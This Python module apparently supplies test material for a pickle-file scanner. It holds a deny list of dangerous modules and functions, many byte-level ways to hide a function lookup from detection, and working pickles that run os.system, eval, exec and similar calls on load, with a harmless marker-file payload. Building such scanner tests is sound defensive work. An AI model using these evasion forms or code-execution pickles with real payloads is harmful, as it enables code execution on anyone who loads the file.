"""Pickles that run something: families that scanners list, those that got past them, and every way to write one."""

import pickle
import struct
from collections.abc import Callable, Mapping

NAMES = (
    "os system popen execv spawnv remove putenv", "posix system popen execv posix_spawn", "nt system",
    "subprocess Popen call run check_output getoutput",
    "builtins eval exec compile open setattr __import__ breakpoint input globals vars map filter print",
    "__builtin__ eval exec apply execfile file", "sys exit modules setprofile", "commands getoutput",
    "importlib import_module reload __import__", "importlib.util find_spec module_from_spec",
    "runpy run_path run_module _run_code", "code interact InteractiveInterpreter.runcode InteractiveInterpreter",
    "codeop compile_command", "types CodeType FunctionType ModuleType", "marshal loads",
    "operator attrgetter itemgetter methodcaller call", "_operator attrgetter methodcaller",
    "functools partial reduce partialmethod", "itertools starmap", "pydoc locate pipepager safeimport",
    "pkgutil resolve_name get_data", "pickle loads load Unpickler", "_pickle loads", "dill loads", "joblib load",
    "cloudpickle.cloudpickle subimport _make_function _builtin_type", "shelve open", "ctypes CDLL cast memmove",
    "shutil rmtree move copyfile", "tempfile _TemporaryFileCloser", "pathlib Path.write_text Path.unlink",
    "io open FileIO open_code", "_io FileIO open", "socket create_connection socket", "ssl get_server_certificate",
    "http.client HTTPSConnection", "urllib.request urlopen urlretrieve", "requests.api get", "aiohttp request",
    "httplib HTTPConnection", "imaplib IMAP4_stream", "webbrowser open open_new", "antigravity webbrowser.open",
    "asyncio run create_subprocess_shell", "asyncio.unix_events _UnixSubprocessTransport._start",
    "multiprocessing.util spawnv_passfds", "pty spawn", "bdb Bdb.run Bdb", "pdb run runeval Pdb",
    "profile run Profile.run", "cProfile run runctx", "trace Trace.run Trace", "timeit timeit main",
    "doctest debug_script run_docstring_examples", "unittest.mock patch _importer",
    "test.support.script_helper assert_python_ok", "idlelib.run Executive.runcode",
    "idlelib.pyshell ModifiedInterpreter.runcode", "idlelib.calltip get_entity Calltip.fetch_tip",
    "idlelib.autocomplete AutoComplete.get_entity", "lib2to3.pgen2.grammar Grammar.loads",
    "distutils.file_util write_file copy_file", "ensurepip _run_pip", "pip main", "pip._internal main",
    "pip._internal.cli.main main", "venv create main", "setuptools setup", "logging FileHandler",
    "logging.config _resolve fileConfig listen", "xml.etree.ElementTree parse", "site execsitecustomize addpackage",
    "sysconfig _main", "uuid _get_command_stdout", "_osx_support _find_build_tool _read_output",
    "_aix_support _read_cmd_output", "_pyrepl.pager pipe_pager", "nturl2path url2pathname",
    "numpy.testing._private.utils runstring", "numpy.f2py.crackfortran getlincoef _eval_length",
    "numpy.testing suppress_warnings", "numpy load fromfile memmap __builtins__ core._internal.sys.modules",
    "torch load hub.load compile classes FloatStorage.from_file storage.FloatStorage ops",
    "torch.hub load _load_local download_url_to_file", "torch.jit load",
    "torch.jit.unsupported_tensor_ops execWrapper", "torch.serialization load add_safe_globals",
    "torch.storage _load_from_bytes", "torch._utils _import_dotted_name _rebuild_wrapper_subclass",
    "torch.utils.collect_env run", "torch.utils.cpp_extension load_inline",
    "torch.utils.bottleneck.__main__ run_cprofile", "torch.utils._config_module ConfigModule.load_config",
    "torch.utils.data.datapipes.utils.decoder basichandlers", "torch._dynamo.guards GuardBuilder.get",
    "torch._inductor.codecache compile_file",
    "torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression",
    "torch.fx._symbolic_trace symbolic_trace", "torch.distributed.rpc.internal _run_function",
    "torch.multiprocessing.reductions rebuild_storage_fd", "torch.cuda set_device",
    "collections OrderedDict.fromkeys namedtuple _sys.modules", "transformers pipeline AutoModel.from_pretrained",
    "transformers.training_args os.system TrainingArguments.to_json_string logging.log_levels Path",
    "transformers.trainer_utils set_seed importlib os", "transformers.utils.import_utils _LazyModule",
    "accelerate.utils.dataclasses os.system importlib str_to_bool", "accelerate.utils.launch subprocess.run",
    "trl.trainer.sft_config os SFTConfig.from_dict", "peft PeftModel.from_pretrained", "__main__ system run os",
    "tensorflow.io read_file", "keras.models load_model", "pandas read_pickle", "sqlite3 connect", "zipfile ZipFile",
    "signal raise_signal", "threading Thread", "atexit register", "gc get_objects", "inspect currentframe",
    "linecache updatecache", "builtins.str join", "copyreg _reconstructor __newobj__ add_extension",
    "_codecs lookup register", "codecs open encode",
)  # fmt: skip
"""Modules, each with the names in it that must never be looked up. ``getattr`` may be, for members of enumerations."""

GADGETS = [(module, name) for module, *names in map(str.split, NAMES) for name in names]


def _short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _long(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _line(module: str, name: str) -> bytes:
    return f"{module}\n{name}\n".encode()


FORMS: Mapping[str, Callable[[str, str], bytes]] = {
    "protocol 0": lambda m, n: b"c" + _line(m, n) + b"(S'id'\ntR.",
    "protocol 2": lambda m, n: b"\x80\x02c" + _line(m, n) + _long("id") + b"\x85R.",
    "protocol 4": lambda m, n: b"\x80\x04" + _short(m) + _short(n) + b"\x93" + _short("id") + b"\x85R.",
    "framed": lambda m, n: b"\x80\x05\x95" + struct.pack("<Q", 1 << 40) + _short(m) + _short(n) + b"\x93)R.",
    "INST": lambda m, n: b"(S'id'\ni" + _line(m, n) + b".",
    "OBJ": lambda m, n: b"(c" + _line(m, n) + b"S'id'\no.",
    "NEWOBJ": lambda m, n: b"\x80\x02c" + _line(m, n) + b")\x81.",
    "NEWOBJ_EX": lambda m, n: b"\x80\x04c" + _line(m, n) + b")}\x92.",
    "looked up and dropped": lambda m, n: b"\x80\x02c" + _line(m, n) + b"0}.",
    "left as data": lambda m, n: b"\x80\x02}" + _long("weight") + b"c" + _line(m, n) + b"s.",
    "before garbage": lambda m, n: b"\x80\x02c" + _line(m, n) + _long("id") + b"\x85R\xff\xff",
    "never stopped": lambda m, n: b"\x80\x02c" + _line(m, n) + _long("id") + b"\x85R",
    "memo overwritten": lambda m, n: (
        b"\x80\x04" + _short(m) + b"q\x000" + _short(n) + b"q\x010" + _short("torch._utils") + b"\x940"
        + _short("_rebuild_tensor_v2") + b"\x940h\x00h\x01\x93)R."
    ),
    "after a first pickle": lambda m, n: b"\x80\x02}." + b"c" + _line(m, n) + b"(S'id'\ntR.",
    "in the state of an object": lambda m, n: (
        b"\x80\x02ccollections\nOrderedDict\n)R}" + _long("x") + b"c" + _line(m, n) + _long("id") + b"\x85Rsb."
    ),
    "in a storage": lambda m, n: b"\x80\x02(" + _long("storage") + b"c" + _line(m, n) + _long("0") + b"tQ.",
    "as an argument": lambda m, n: b"\x80\x02ctorch\nSize\nc" + _line(m, n) + b")R\x85\x85R.",
}  # fmt: skip
"""Every way to write the lookup of a name, and what may stand around it."""


class Calls:
    """An object whose pickle calls ``function`` with ``arguments``."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __call__(self) -> None:
        """Never: pickle asks only whether it could be."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.arguments


def live(mark: str) -> Mapping[str, bytes]:
    """Pickles that make the file ``mark`` when they are loaded, each in another way."""
    import cProfile
    import functools
    import importlib
    import operator
    import os
    import pydoc
    import subprocess
    import timeit

    command, statement = f"touch {mark}", f"open({mark!r}, 'w').close()"
    imported = Calls(importlib.import_module, "os")
    objects: Mapping[str, object] = {
        "os.system": Calls(os.system, command),
        "subprocess": Calls(subprocess.call, ["touch", mark]),
        "eval": Calls(eval, statement),
        "exec": Calls(exec, statement),
        "open": Calls(open, mark, "w"),
        "getattr chain": Calls(Calls(getattr, imported, "system"), command),
        "pydoc": Calls(Calls(pydoc.locate, "os.system"), command),
        "methodcaller": Calls(Calls(operator.methodcaller, "system", command), imported),
        "attrgetter": Calls(Calls(Calls(operator.attrgetter, "system"), imported), command),
        "partial": Calls(functools.partial(os.system, command)),
        "timeit": Calls(timeit.timeit, statement, "pass", timeit.default_timer, 1),
        "cProfile": Calls(cProfile.run, statement),
    }
    by_hand = {
        "INST": f"(S'{command}'\nios\nsystem\n.".encode(),
        "OBJ": f"(cos\nsystem\nS'{command}'\no.".encode(),
        "builtins dict of numpy": (
            b"\x80\x04" + _short("builtins") + _short("dict.get") + b"\x93" + _short("numpy") + _short("__builtins__")
            + b"\x93" + _short("eval") + b"\x86R" + _short(statement) + b"\x85R."
        ),
        "dotted name": (
            b"\x80\x04" + _short("transformers.training_args") + _short("os.system") + b"\x93" + _short(command)
            + b"\x85R."
        ),
    }  # fmt: skip
    return {name: pickle.dumps(one, 2) for name, one in objects.items()} | by_hand
